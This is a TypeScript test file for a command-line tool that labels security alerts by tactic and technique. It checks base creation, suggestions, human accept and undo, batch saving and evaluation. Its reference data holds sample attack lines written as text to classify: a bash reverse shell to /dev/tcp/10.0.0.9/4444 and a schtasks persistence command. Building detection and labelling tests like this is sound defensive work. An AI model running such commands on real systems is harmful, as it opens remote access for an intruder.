import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { JournalEntry, LabelChange, LabelJob, ReviewPage, Suggestion } from '@secxops/protocol/labels'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { openProduct, type Product } from './support/product.ts'

/** The labeler by the command line, with the bundled model: references, a text, a file, its review, its result. */

let product: Product
let job: LabelJob

const REFERENCES: [text: string, ...path: string[]][] = [
  ['Failed password for root from 10.0.0.1 port 22 ssh2', 'credential access', 'brute force'],
  ['Failed password for invalid user admin from 10.1.2.3 port 4711 ssh2', 'credential access', 'brute force'],
  ['Too many authentication failures for user backup', 'credential access', 'brute force'],
  ['Repeated logon failures for many accounts from one address', 'credential access', 'password spraying'],
  ['One password was tried against 200 accounts within a minute', 'credential access', 'password spraying'],
  ['短时间内同一密码尝试登录多个账户', 'credential access', 'password spraying'],
  ['powershell.exe started with an encoded command by winword.exe', 'execution', 'command interpreter'],
  ['bash -i >& /dev/tcp/10.0.0.9/4444 0>&1', 'execution', 'command interpreter'],
  ['cmd.exe /c whoami was run by a web server process', 'execution', 'command interpreter'],
  ['A scheduled task was created that runs at logon', 'persistence', 'scheduled task'],
  ['New cron entry downloads and runs a script every minute', 'persistence', 'scheduled task'],
  ['schtasks /create /tn updater /tr c:\\temp\\a.exe /sc onlogon', 'persistence', 'scheduled task'],
]
const LOG = [
  'Failed password for root from 192.168.7.9 port 2222 ssh2',
  'Failed password for root from 192.168.7.10 port 2223 ssh2',
  'powershell.exe started with an encoded command by excel.exe',
  'the printer is out of paper',
]

beforeAll(() => {
  product = openProduct('labels')
  mkdirSync(product.folder)
  const rows = REFERENCES.map(([text, ...path]) => JSON.stringify({ text, path }))
  writeFileSync(join(product.folder, 'refs.jsonl'), `${rows.join('\n')}\nno json\n`)
  writeFileSync(join(product.folder, 'auth.log'), `${LOG.join('\n')}\n`)
})
afterAll(() => product?.close())

const at = (name: string): string => join(product.folder, name)
const suggest = async (text: string): Promise<Suggestion> =>
  (await product.json<Suggestion>('label', 'text', text, '--base', 'alerts')).value

test('a base is made and takes references; a row that is none is counted, and the base has learnt', async () => {
  expect((await product.cli('label', 'base', 'create', 'alerts', '--levels', 'tactic', 'technique')).code).toBe(0)
  const { code, value } = await product.json<LabelJob>('label', 'import', 'alerts', at('refs.jsonl'))
  expect([code, value.state, value.done, value.skipped]).toEqual([0, 'succeeded', 12, { 'not-read': 1 }])
  const { stdout } = await product.cli('label', 'base', 'show', 'alerts')
  expect(stdout).toMatch(/12 references, 4 leaves, 2 levels \(tactic, technique\)/)
  expect(stdout).toMatch(/state: ready/)
})

test('a text gets the label of what it resembles, with the references that say so, and the same again', async () => {
  const answer = await suggest(LOG[0] as string)
  expect(answer.path).toEqual(['credential access', 'brute force'])
  expect(answer.why[0]?.text).toMatch(/^Failed password for/)
  expect(answer.levelConfidence).toHaveLength(2)
  expect(await suggest(LOG[0] as string)).toEqual(answer)
})

test("a human's word counts in the next answer, and undo takes it back", async () => {
  const text = 'the printer is out of paper'
  const { value: change } = await product.json<LabelChange>(
    'label',
    'accept',
    text,
    'noise',
    'device',
    '--base',
    'alerts',
    '--by',
    'ada',
  )
  expect(change).toMatchObject({ kind: 'accept', by: 'ada' })
  const after = await suggest(text)
  expect([after.path, after.decided?.by]).toEqual([['noise', 'device'], 'ada'])
  expect((await product.cli('label', 'undo', '--base', 'alerts')).code).toBe(0)
  const undone = await suggest(text)
  expect([undone.path[0] === 'noise', undone.decided]).toEqual([false, undefined])
  const { value: journal } = await product.json<JournalEntry[]>('label', 'journal', 'alerts')
  expect(journal.filter((entry) => entry.text === text).map(({ by }) => by)).toContain('ada')
})

test('a file is labelled, lines that differ in numbers once', async () => {
  const { code, value, stderr } = await product.json<LabelJob>('label', 'file', at('auth.log'), '--base', 'alerts')
  expect(code, stderr).toBe(0)
  job = value
  expect(job).toMatchObject({ state: 'succeeded', done: 3, total: 3 })
  const { value: page } = await product.json<ReviewPage>('label', 'review', job.id)
  expect(page.items.find(({ line }) => line === 1)).toMatchObject({
    rows: 2,
    suggestion: { path: ['credential access', 'brute force'] },
  })
})

test('many are decided at once and saved as a dataset and a file; a file that is there is not touched', async () => {
  const decided = await product.cli('label', 'decide', job.id, 'accept', '--under', 'credential access', '--by', 'ada')
  expect(decided.code, decided.stderr).toBe(0)
  const saved = await product.cli('label', 'save', job.id, '--dataset', 'auth-labels')
  expect(saved.stdout).toMatch(/4 rows in auth-labels@1/)
  const out = at('labels.jsonl')
  expect((await product.cli('label', 'save', job.id, '--path', out)).code).toBe(0)
  const rows = readFileSync(out, 'utf8')
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line))
  expect(rows.map(({ text }) => text)).toEqual(LOG)
  expect(rows[1]).toMatchObject({
    category: 'credential access',
    subcategory: 'brute force',
    decision: 'accepted',
    by: 'ada',
  })
  const again = await product.cli('label', 'save', job.id, '--path', out)
  expect([again.code, again.stderr]).toEqual([1, expect.stringMatching(/is there already and was not touched/)])
})

test('eval scores a labelling, writes predictions and a page, and leaves no base behind', async () => {
  const gold = [
    { text: 'Failed password for bob from 10.9.9.9 port 3 ssh2', path: ['credential access', 'brute force'] },
    { text: 'A new scheduled task runs a program at logon', path: ['persistence', 'scheduled task'] },
    { text: 'Files were encrypted and a note was left', path: ['impact', 'encryption'], oot: true },
  ]
  writeFileSync(at('gold.jsonl'), gold.map((row) => `${JSON.stringify(row)}\n`).join(''))
  writeFileSync(at('refs.jsonl'), REFERENCES.map(([text, ...path]) => `${JSON.stringify({ text, path })}\n`).join(''))
  const { code, value } = await product.json<{ metrics: Record<string, number>; page: string }>(
    'label',
    'eval',
    '--refs',
    at('refs.jsonl'),
    '--file',
    at('gold.jsonl'),
    '--out',
    at('pred.jsonl'),
  )
  expect(code).toBe(0)
  expect(value.metrics).toMatchObject({ n_in: 2, n_oot: 1, full: 1 })
  expect(
    readFileSync(at('pred.jsonl'), 'utf8')
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line).text),
  ).toEqual(gold.map(({ text }) => text))
  expect(existsSync(value.page)).toBe(true)
  const { stdout } = await product.cli('label', 'base', 'list')
  expect(stdout.match(/eval-/)).toBeNull()
})

test('what cannot be is refused in words', async () => {
  const cases: [RegExp, ...string[]][] = [
    [/no reference base named alert\b.*Did you mean "alerts"/, 'label', 'text', 'x', '--base', 'alert'],
    [/is a folder/, 'label', 'file', product.folder, '--base', 'alerts'],
    [
      /has no column "nope".*It has: text, path/,
      'label',
      'file',
      at('refs.jsonl'),
      '--base',
      'alerts',
      '--column',
      'nope',
    ],
    [/pattern "\(" is not understood/, 'label', 'file', at('auth.log'), '--base', 'alerts', '--pattern', '('],
    [/no language model/, 'label', 'generate', 'alerts'],
  ]
  for (const [words, ...args] of cases) {
    const { code, stdout, stderr } = await product.cli(...args)
    expect([code, `${stdout}${stderr}`]).toEqual([1, expect.stringMatching(words)])
  }
})
